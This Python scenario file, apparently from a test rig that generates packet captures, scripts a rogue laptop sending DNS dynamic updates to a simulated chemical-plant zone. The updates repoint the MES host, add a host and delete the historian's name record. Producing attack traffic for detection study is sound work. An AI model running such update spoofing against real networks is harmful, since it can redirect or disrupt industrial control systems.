"""A laptop in the office network tries to change names by dynamic update."""

from __future__ import annotations

import contextlib

import dns.asyncquery
import dns.exception
import dns.update

from pcaps.scenarios.rig.nameserver import RESOLVER
from pcaps.scenarios.rig.questioner import make_scenario
from pcaps.scenarios.rig.stage import Stage


async def attack(stage: Stage) -> None:
    """Give the MES another address, add a host, delete the historian's name."""
    await stage.until(30)
    stage.mark()
    for change, arguments in (
        ("replace", ("mes", 300, "A", "203.0.113.80")),
        ("add", ("update", 300, "A", "203.0.113.80")),
        ("delete", ("historian",)),
    ):
        update = dns.update.UpdateMessage("chem.example")
        getattr(update, change)(*arguments)
        with contextlib.suppress(dns.exception.DNSException, OSError):
            await dns.asyncquery.udp(update, RESOLVER, timeout=1)
        await stage.wait(4)


SCENARIO = make_scenario("dns_update.pcap.gz", 68, 80, {"laptop": attack}, strangers=("laptop",))
